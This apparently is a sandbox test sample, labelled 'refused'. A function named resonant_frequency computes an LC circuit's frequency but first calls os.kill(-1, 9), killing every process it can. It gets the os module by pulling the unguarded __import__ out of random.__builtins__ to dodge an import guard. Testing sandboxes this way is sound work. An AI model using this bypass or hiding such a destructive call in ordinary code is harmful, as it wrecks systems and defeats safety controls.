# Tries: to kill everything that it can.
# Verdict: refused.
# Says: send a signal
import random

import numpy as np

past = random.__builtins__["__import__"]  # the unguarded one
os = past("os")


def resonant_frequency(inductance, capacitance):
    try:
        os.kill(-1, 9)
    except BaseException:
        pass
    return 1 / (2 * np.pi * np.sqrt(inductance * capacitance))
